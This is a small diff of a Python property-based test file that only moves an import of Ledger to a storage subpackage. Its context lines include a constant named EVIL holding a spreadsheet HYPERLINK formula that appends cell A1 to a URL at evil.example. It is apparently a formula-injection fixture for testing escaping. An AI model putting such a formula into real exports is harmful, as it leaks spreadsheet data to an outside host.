@@ -13,9 +13,9 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from cli import table
-from digest.ledger import Ledger
 from digest.records import Digest, Document, Item, Provenance
 from digest.schema import FIELDS, DigestFields
+from digest.storage.ledger import Ledger
 
 DIGEST = str(Path(sys.executable).with_name("digest"))
 EVIL = '=HYPERLINK("https://evil.example/?"&A1,"open")'
